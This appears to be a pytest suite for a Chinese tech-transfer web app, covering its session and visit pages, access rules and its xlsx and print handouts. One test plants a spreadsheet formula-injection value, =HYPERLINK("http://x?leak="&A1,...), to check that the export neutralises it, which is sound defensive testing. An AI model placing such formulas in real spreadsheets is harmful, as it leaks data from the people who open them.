"""Pages for sessions (专题对接) and visits (双走进), through the real app, and the handout in chromium."""
from __future__ import annotations

import io
import re

import openpyxl
import pytest

from service import store, workflow

from .browser_support import ARTIFACTS, LAPTOP, browsing, screenshot, sign_in
from .records import HAIDA, HIT, HUALIAN
from .site_support import ROLES, log_in, make_site, post, text

pytestmark = pytest.mark.instance("site")

CLUSTER = "先进装备与智能制造"


def plan_by_form(client, **fields):
    data = {"theme": f"cluster:{CLUSTER}", "held_on": "2021-06-18", "per_party_limit": "3", "size": "20",
            "min_score": "0", **fields}
    return post(client, "/sessions", data)


def only_session(db) -> dict:
    [session] = store.list_sessions(db)
    return session


# --- who sees which page -----------------------------------------------------------------------

def test_session_pages_are_for_brokers_and_admins_and_visit_pages_for_everyone_signed_in(client, db):
    log_in(client, db, "broker")
    plan_by_form(client)
    session_id = only_session(db)["id"]
    pages = {"/sessions": ("broker", "admin"), f"/sessions/{session_id}": ("broker", "admin"),
             f"/sessions/{session_id}/handout": ("broker", "admin"), "/visits": ROLES}
    for url, allowed in pages.items():
        for role in ROLES:
            log_in(client, db, role)
            assert client.get(url).status_code == (200 if role in allowed else 403), f"{role} GET {url}"
    log_in(client, db, None)
    assert client.get("/sessions").status_code == 302


def test_the_nav_offers_sessions_to_brokers_and_visits_to_platforms(client, db):
    log_in(client, db, "broker")
    page = text(client.get("/"))
    assert "专题对接" in page and "走访" in page
    log_in(client, db, "platform")
    page = text(client.get("/"))
    assert "专题对接" not in page and "走访" in page


# --- planning, editing, recording --------------------------------------------------------------

def test_a_broker_plans_a_session_by_form_and_edits_its_agenda(client, db):
    log_in(client, db, "broker")
    response = plan_by_form(client)
    session = only_session(db)
    assert response.status_code == 302 and response.headers["Location"].endswith(f"/sessions/{session['id']}")
    page = text(client.get(f"/sessions/{session['id']}"))
    assert f"{CLUSTER}专题对接会" in page and "打印材料" in page
    pairs = store.session_pairs(db, session["id"])
    assert pairs and all(pair["industry_cluster"] == CLUSTER for pair in pairs)

    assert len(pairs) > 1
    last = pairs[-1]["id"]
    post(client, f"/sessions/{session['id']}/pairs/{last}/move", {"direction": "up"})
    assert [pair["id"] for pair in store.session_pairs(db, session["id"])][-2] == last
    post(client, f"/sessions/{session['id']}/pairs/{last}/remove")
    assert last not in [pair["id"] for pair in store.session_pairs(db, session["id"])]
    added = post(client, f"/sessions/{session['id']}/pairs", {"demand_id": "D2021-109", "supply_id": "S2021-213"},
                 follow_redirects=True)
    assert "已将 D2021-109 × S2021-213 加入议程" in text(added)
    unknown = post(client, f"/sessions/{session['id']}/pairs", {"demand_id": "D1999-1", "supply_id": "S2021-213"},
                   follow_redirects=True)
    assert "配对的编号有误" in text(unknown)


def test_the_broker_records_outcomes_and_confirms_a_pair_as_a_cooperation_of_the_session(client, db):
    log_in(client, db, "broker")
    plan_by_form(client)
    session = only_session(db)
    first, second, *_ = store.session_pairs(db, session["id"])
    page = post(client, f"/sessions/{session['id']}/pairs/{second['id']}/outcome",
                {"outcome": "not_interested", "note": "价格过高"}, follow_redirects=True)
    assert "已记录洽谈结果：无意向" in text(page) and "价格过高" in text(page)
    page = post(client, f"/sessions/{session['id']}/pairs/{first['id']}/confirm",
                {"mode": "技术服务", "amount_wan": "20", "confirmed_at": "2021-06-18"}, follow_redirects=True)
    assert "已确认为合作" in text(page)
    cooperation = store.get_cooperation(db, first["demand_id"], first["supply_id"])
    assert cooperation["session_id"] == session["id"] and cooperation["amount_wan"] == 20
    assert only_session(db)["cooperation_count"] == 1


def test_the_xlsx_handout_has_chinese_headers_and_one_row_per_pair(client, db):
    log_in(client, db, "broker")
    plan_by_form(client)
    session = only_session(db)
    response = client.get(f"/sessions/{session['id']}/handout.xlsx")
    assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet")
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("序号", "需求编号", "需求名称", "企业名称")
    assert {"成果名称", "平台名称", "匹配分", "共同关键词", "洽谈结果"} <= set(rows[0])
    pairs = store.session_pairs(db, session["id"])
    assert [row[1] for row in rows[1:]] == [pair["demand_id"] for pair in pairs]


def test_the_xlsx_handout_writes_formula_like_titles_as_text(client, db):
    log_in(client, db, "broker")
    plan_by_form(client)
    session = only_session(db)
    first = store.session_pairs(db, session["id"])[0]
    supply = store.get_record(db, "supplies", first["supply_id"])
    store.upsert_records(db, "supplies", [{**supply, "title": '=HYPERLINK("http://x?leak="&A1,"x")', "platform": "=1+2"}])
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(f"/sessions/{session['id']}/handout.xlsx").data)).active
    cells = {header.value: cell for header, cell in zip(sheet[1], sheet[2])}
    assert cells["成果名称"].value.startswith("=HYPERLINK") and cells["平台名称"].value == "=1+2"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in (cells["成果名称"], cells["平台名称"]))

def test_the_print_handout_carries_each_pairs_summaries_score_and_reasons_without_inline_script(client, db):
    log_in(client, db, "broker")
    plan_by_form(client)
    session = only_session(db)
    page = text(client.get(f"/sessions/{session['id']}/handout"))
    assert re.findall(r"<script(?![^>]*\bsrc=)[^>]*>", page) == [] and "handout.css" in page
    for pair in store.session_pairs(db, session["id"]):
        assert pair["demand_title"] in page and pair["supply_title"] in page
        assert f"匹配分 {pair['score']:.2f}" in page
    assert "推荐理由" in page and "□ 有意向" in page
    assert "size: A4" in text(client.get("/assets/handout.css"))


# --- visits --------------------------------------------------------------------------------------

def introduce(db, demand_id: str = "D2021-101", supply_id: str = "S2021-201") -> None:
    """A broker recommends the enterprise's demand to the platform's supply and the enterprise agrees
    to meet it: only then may the platform record a visit to that enterprise."""
    store.save_proposals(db, [{"demand_id": demand_id, "supply_id": supply_id, "score": 0.7, "dense": None,
                               "lexical": None, "rank": 1, "reasons": {}}], rescore=False)
    proposal_id = store.get_proposal_for_pair(db, demand_id, supply_id)["id"]
    workflow.decide(db, proposal_id, "recommended", {"name": "broker", "role": "broker"})
    workflow.agree_introduction(db, proposal_id, {"name": "enterprise", "role": "enterprise", "org": HUALIAN})


def test_a_platform_records_a_visit_and_registers_a_demand_from_the_visit_page(client, db):
    introduce(db)
    log_in(client, db, "platform")
    assert f"<option>{HUALIAN}</option>" in text(client.get("/visits"))
    response = post(client, "/visits", {"direction": "into_enterprise", "enterprise": HUALIAN,
                                        "visited_on": "2021-06-03", "region": "文登区", "notes": "走访装配车间"})
    [visit] = store.list_visits(db)
    assert response.headers["Location"].endswith(f"/visits/{visit['id']}") and visit["partner"] == HIT
    page = text(client.get(f"/visits/{visit['id']}"))
    assert f'value="{HUALIAN}" readonly' in page and 'value="文登区" selected' in page

    refused = post(client, f"/visits/{visit['id']}/demands", {"title": "", "description": "太短"})
    assert refused.status_code == 422 and "需要修改" in text(refused)
    saved = post(client, f"/visits/{visit['id']}/demands",
                 {"title": "装配线螺栓拧紧质量追溯", "description": "装配线上螺栓拧紧扭矩没有记录，出了质量问题无法追溯，希望实时采集扭矩曲线。",
                  "region": "文登区", "keywords": "拧紧、扭矩、追溯"}, follow_redirects=True)
    assert "已登记技术需求「装配线螺栓拧紧质量追溯」" in text(saved)
    [demand] = store.visit_demands(db, visit["id"])
    assert demand["enterprise"] == HUALIAN and demand["region"] == "文登区" and demand["posted_at"] == "2021-06-03"

    log_in(client, db, "enterprise")  # the visited enterprise sees the visit and the demand as its own
    assert "装配线螺栓拧紧质量追溯" in text(client.get(f"/visits/{visit['id']}"))
    assert client.get(f"/demands/{demand['id']}").status_code == 200
    assert post(client, f"/visits/{visit['id']}/demands", {"title": "x", "description": "y"}).status_code == 403


def test_someone_elses_visit_answers_the_same_404_as_a_missing_one(client, db):
    log_in(client, db, "broker")
    post(client, "/visits", {"direction": "into_enterprise", "enterprise": HAIDA,
                             "visited_on": "2021-06-04", "notes": "走访船厂"})
    [visit] = store.list_visits(db)
    for role in ("enterprise", "platform"):  # neither the visited enterprise nor the visiting platform
        log_in(client, db, role)
        refused, absent = client.get(f"/visits/{visit['id']}"), client.get("/visits/999999")
        assert refused.status_code == absent.status_code == 404, role
        assert text(refused) == text(absent)


def test_a_visits_headline_says_who_visited_whom_in_either_direction(client, db):
    log_in(client, db, "broker")
    for direction in ("into_enterprise", "into_platform"):
        post(client, "/visits", {"direction": direction, "enterprise": HUALIAN, "partner": HIT,
                                 "visited_on": "2021-06-05"})
    headlines = {visit["direction"]: re.search(r"<h1>(.*?)</h1>", text(client.get(f"/visits/{visit['id']}"))).group(1)
                 for visit in store.list_visits(db)}
    assert headlines == {"into_enterprise": f"{HIT} 走进企业 {HUALIAN}",
                         "into_platform": f"{HUALIAN} 走进平台 {HIT}"}


def test_the_visit_form_suggests_the_enterprises_and_platforms_of_the_lists(client, db):
    log_in(client, db, "broker")
    page = text(client.get("/visits"))
    enterprises = re.search(r'<datalist id="enterprise-names">(.*?)</datalist>', page).group(1)
    platforms = re.search(r'<datalist id="platform-names">(.*?)</datalist>', page).group(1)
    assert 'list="enterprise-names"' in page and 'list="platform-names"' in page
    assert re.findall(r'<option value="(.*?)">', enterprises) == store.distinct_values(db, "demands", "enterprise")
    assert re.findall(r'<option value="(.*?)">', platforms) == store.distinct_values(db, "supplies", "platform")
    assert f'<option value="{HUALIAN}">' in enterprises and f'<option value="{HIT}">' in platforms


# --- in a real browser ------------------------------------------------------------------------------

@pytest.mark.browser
def test_a_broker_plans_a_session_for_one_cluster_and_prints_its_handout(tmp_path):
    with browsing(make_site(tmp_path / "site")) as (base_url, browser):
        page = browser.new_context(viewport=LAPTOP, locale="zh-CN").new_page()
        sign_in(page, base_url, "broker")
        page.click("nav >> text=专题对接")
        page.select_option("#s-theme", f"cluster:{CLUSTER}")
        page.fill("#s-held_on", "2021-06-18")
        page.click("#plan-session button[type=submit]")
        page.wait_for_url(re.compile(r".*/sessions/\d+$"))
        assert page.locator("h1").inner_text() == f"{CLUSTER}专题对接会"
        rows = page.locator("table.agenda tbody tr").count()
        assert rows >= 1
        screenshot(page, "session-agenda.png", full_page=True)

        page.click("#handout-link")
        page.wait_for_url(re.compile(r".*/handout$"))
        assert page.locator("article.pair").count() == rows
        page.emulate_media(media="print")
        assert not page.locator(".toolbar").is_visible()  # the screen toolbar is not printed
        screenshot(page, "handout.png", full_page=True)
        pdf = page.pdf(format="A4", print_background=True)
        assert pdf.startswith(b"%PDF")
        (ARTIFACTS / "handout.pdf").write_bytes(pdf)


@pytest.mark.browser
def test_a_broker_records_a_visit_with_suggested_names_and_reads_who_visited_whom(tmp_path):
    with browsing(make_site(tmp_path / "site")) as (base_url, browser):
        page = browser.new_context(viewport=LAPTOP, locale="zh-CN").new_page()
        sign_in(page, base_url, "broker")
        page.goto(f"{base_url}/visits")
        suggested = page.eval_on_selector_all("#platform-names option", "options => options.map(o => o.value)")
        assert HIT in suggested
        page.select_option("#v-direction", "into_platform")
        page.fill("#v-enterprise", HUALIAN)
        page.fill("#v-partner", HIT)
        page.fill("#v-notes", "企业技术负责人参观模具成型实验室，\n讨论随形冷却水路方案。")
        page.click("#record-visit button[type=submit]")
        page.wait_for_url(re.compile(r".*/visits/\d+$"))
        assert page.inner_text("h1") == f"{HUALIAN} 走进平台 {HIT}"
        # 走访纪要 stands clear of the last fact row (记录人) above it.
        recorder = page.locator("dl.facts dd").last.bounding_box()
        notes = page.locator("aside h3", has_text="走访纪要").bounding_box()
        assert notes["y"] - (recorder["y"] + recorder["height"]) >= 16
        screenshot(page, "visit-into-platform.png", full_page=True)
